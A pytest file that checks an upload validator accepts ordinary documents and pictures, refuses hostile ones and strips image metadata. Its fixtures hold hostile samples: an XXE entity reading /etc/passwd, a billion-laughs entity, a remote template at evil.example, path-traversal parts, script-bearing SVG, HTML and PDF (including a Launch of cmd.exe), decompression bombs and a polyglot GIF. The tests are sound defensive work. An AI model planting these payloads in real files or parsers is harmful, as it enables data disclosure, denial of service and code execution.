"""What is taken, what is refused, and what of a picture is left behind."""

import tracemalloc
import zipfile
from io import BytesIO

import pytest
from django.test import override_settings
from PIL import Image

from prm.files import documents, pictures
from prm.files.checking import check
from prm.files.refusals import Refused
from prm.files.sockets import SCANNERS, TRIAL
from tests.files.making import MAIN, PDF, PLAIN_XML, archive, broken, locked, moving, office, picture, promising

EXTERNAL = b'<Relationship Type="x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>'
XXE = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
LAUGHS = b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><l>&b;</l>'

TAKEN = {
    "a.pdf": PDF,
    "a.png": picture(),
    "a.jpg": picture("JPEG"),
    "a.webp": picture("WEBP"),
    "a.gif": picture("GIF"),
    "moving.gif": moving("GIF"),
    "moving.webp": moving("WEBP"),
    "a.docx": office("docx"),
    "a.xlsx": office("xlsx"),
    "a.pptx": office("pptx", {"ppt/media/image1.png": picture()}),
    "a.txt": "Größe\nzwei".encode(),
    "bom.csv": "\ufeffname;größe\n".encode(),
    "a.md": b"# Title\n\n<b>may</b> be said\n",
}
REFUSED: dict[str, tuple[str, bytes]] = {
    "nothing": ("a.pdf", b""),
    "zip": ("a.zip", archive({"a.txt": b"x"})),
    "zip as docx": ("a.docx", archive({"a.txt": b"x"})),
    "docx as xlsx": ("a.xlsx", office("docx")),
    "docm": ("a.docm", office("docx", {"word/vbaProject.bin": b"x"})),
    "docm as docx": ("a.docx", office("docx", {"word/vbaProject.bin": b"x"})),
    "macros by type": ("a.docx", office("docx", {"[Content_Types].xml": b"<x application/macroEnabled/>"})),
    "activeX": ("a.pptx", office("pptx", {"ppt/activeX/activeX1.xml": b"<x/>"})),
    "package": ("a.docx", office("docx", {"word/embeddings/oleObject1.bin": b"MZ"})),
    "template from elsewhere": ("a.docx", office("docx", {"word/_rels/settings.xml.rels": EXTERNAL})),
    "entity in docx": ("a.docx", office("docx", {MAIN["docx"]: XXE})),
    "laughs in xlsx": ("a.xlsx", office("xlsx", {"xl/sharedStrings.xml": LAUGHS})),
    "entity behind blanks": ("a.docx", office("docx", {MAIN["docx"]: b" " * (1 << 20) + XXE})),
    "entity in UTF-16": ("a.docx", office("docx", {MAIN["docx"]: XXE.decode().encode("utf-16")})),
    "climbing part": ("a.docx", office("docx", {"../../evil.xml": b"<x/>"})),
    "absolute part": ("a.docx", office("docx", {"/evil.xml": b"<x/>"})),
    "driven part": ("a.docx", office("docx", {"C:evil.xml": b"<x/>"})),
    "comment": ("a.docx", office("docx", comment=b"<script>")),
    "locked": ("a.docx", locked(office("docx"))),
    "broken": ("a.docx", broken(office("docx", {"word/zz.xml": PLAIN_XML * 9}))),
    "cut short": ("a.docx", office("docx")[:-30]),
    "many parts": ("a.docx", office("docx", {f"word/{number}.bin": b"" for number in range(5_001)})),
    "svg": ("a.svg", b"<svg onload='alert(1)'/>"),
    "svg as png": ("a.png", b"<svg onload='alert(1)'/>"),
    "svg as text": ("a.txt", b"<svg onload='alert(1)'/>"),
    "svg with a prolog as text": ("a.txt", b"\xef\xbb\xbf \n<?xml version='1.0'?><svg/>"),
    "html as pdf": ("a.pdf", b"<html><script>alert(1)</script>"),
    "html as text": ("a.md", b"<!DOCTYPE html><script>alert(1)</script>"),
    "html behind blanks": ("a.csv", b"\n\n  <HTML><body>"),
    "pdf as text": ("a.txt", b"\n%PDF-1.4"),
    "binary as text": ("a.txt", b"a\x00b"),
    "latin as text": ("a.csv", "größe".encode("latin-1")),
    "escape as text": ("a.txt", b"\x1b[31mred"),
    "pdf without end": ("a.pdf", b"%PDF-1.4\n"),
    "pdf and zip": ("a.pdf", PDF + archive({"a.html": b"<script>"}) + b"%%EOF"),
    "pdf with a program": ("a.pdf", PDF.replace(b"/Type", b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>/Type")),
    "pdf with a spelled program": ("a.pdf", PDF.replace(b"/Type", b"/S/J#61va#53cript/Type")),
    "pdf that starts something": ("a.pdf", PDF.replace(b"/Type", b"/S/Launch/F(cmd.exe)/Type")),
    "pdf with a file": ("a.pdf", PDF.replace(b"/Type", b"/Type/EmbeddedFile/X")),
    "picture as pdf": ("a.pdf", picture()),
    "pdf as picture": ("a.png", PDF),
    "gif that is a script": ("a.gif", b"GIF89a=1;/*" + b"*/alert(1)//"),
    "half a picture": ("a.png", picture(size=(400, 400))[:60]),
    "trial of scanners": ("a.txt", b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + TRIAL + b"!$H+H*"),
    "program": ("a.exe", b"MZ\x90\x00"),
    "no ending": ("README", b"plain"),
    "wide picture": ("a.png", promising(50_000, 50_000)),
    "long picture": ("a.png", promising(13_000, 1)),
    "large picture": ("a.png", promising(5_000, 5_000)),
    "large film": ("a.gif", moving("GIF", frames=60, size=(640, 600))),
    "long film": ("a.gif", moving("GIF", frames=210, size=(2, 2))),
}


@pytest.mark.parametrize("name", TAKEN)
def test_honest_file_is_taken(name: str) -> None:
    checked = check(TAKEN[name], name)

    assert checked.name == name
    assert len(checked.sha256) == 64
    assert checked.data


@pytest.mark.parametrize("name", REFUSED)
def test_hostile_file_is_refused_in_a_sentence(name: str) -> None:
    with pytest.raises(Refused, match=r"^[A-Z].*\.$"):
        check(REFUSED[name][1], REFUSED[name][0])


def test_bomb_is_refused_before_it_is_unpacked() -> None:
    """It promises half a gigabyte and costs next to nothing to refuse."""
    bomb = office("xlsx", {f"xl/{number}.xml": b" " * 25_000_000 for number in range(10)})
    tracemalloc.start()
    with pytest.raises(Refused, match="unpacks to more"):
        check(bomb, "a.xlsx")
    _now, most = tracemalloc.get_traced_memory()
    tracemalloc.stop()

    assert len(bomb) < 1_000_000
    assert most < 20_000_000


def test_much_xml_is_refused_though_the_whole_is_small_enough() -> None:
    with pytest.raises(Refused, match="unpacks to more"):
        check(office("xlsx", {"xl/a.xml": b" " * (documents.MOST_XML + 1)}), "a.xlsx")


def test_part_that_is_there_twice_is_refused() -> None:
    written = BytesIO(office("docx"))
    with zipfile.ZipFile(written, "a") as opened, pytest.warns(UserWarning, match="Duplicate"):
        opened.writestr(MAIN["docx"], b"<other/>")

    with pytest.raises(Refused):
        check(written.getvalue(), "a.docx")


def test_one_byte_too_many_is_refused() -> None:
    raw = b"x" * 1001
    with override_settings(PRM_FILE_MAX_BYTES=1000):
        assert check(raw[:1000], "a.txt").data == raw[:1000]
        with pytest.raises(Refused, match="larger than"):
            check(raw, "a.txt")


@pytest.mark.parametrize("form", ["JPEG", "WEBP", "PNG"])
def test_of_a_picture_only_what_is_seen_is_kept(form: str) -> None:
    """Places, comments and whatever was hung behind it stay away."""
    exif = Image.Exif()
    exif[0x010E] = "secret place"
    raw = picture(form, exif=exif) + b"<script>alert(1)</script>PK\x03\x04"
    assert b"secret place" in raw
    kept = check(raw, f"a.{form.lower()}").data

    assert b"secret place" not in kept
    assert b"<script>" not in kept
    with Image.open(BytesIO(kept)) as seen:
        assert (seen.format, seen.size) == (form, (8, 6))


def test_comment_of_a_gif_stays_away() -> None:
    raw = picture("GIF", comment=b"secret place")
    assert b"secret place" in raw

    assert b"secret place" not in check(raw, "a.gif").data


@pytest.mark.parametrize("form", ["GIF", "WEBP"])
def test_moving_picture_goes_on_moving(form: str) -> None:
    with Image.open(BytesIO(check(moving(form), f"a.{form.lower()}").data)) as seen:
        assert seen.n_frames == 3


def test_photo_is_turned_as_its_camera_was() -> None:
    exif = Image.Exif()
    exif[0x0112] = 6
    with Image.open(BytesIO(check(picture("JPEG", exif=exif), "a.jpg").data)) as seen:
        assert seen.size == (6, 8)


def test_what_shines_through_stays(tmp_path: object) -> None:
    written = BytesIO()
    Image.new("RGBA", (4, 4), (0, 0, 0, 0)).save(written, "PNG")
    with Image.open(BytesIO(check(written.getvalue(), "a.png").data)) as seen:
        assert seen.convert("RGBA").getpixel((0, 0))[3] == 0


def test_bomb_that_the_decoder_finds_is_refused_too(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(Image, "MAX_IMAGE_PIXELS", 10)

    with pytest.raises(Refused, match="pixels"):
        pictures.redrawn(picture(), "png")


def test_scanner_of_the_installation_is_asked(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(SCANNERS._entries, "own", lambda raw: b"worm" in raw)

    assert check(b"bird", "a.txt").data == b"bird"
    with pytest.raises(Refused, match="infected"):
        check(b"a worm", "a.txt")


def test_control_without_the_look_at_parts_macros_come_through(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(documents, "ACTIVE_PARTS", ())

    assert check(REFUSED["docm as docx"][1], "a.docx").data
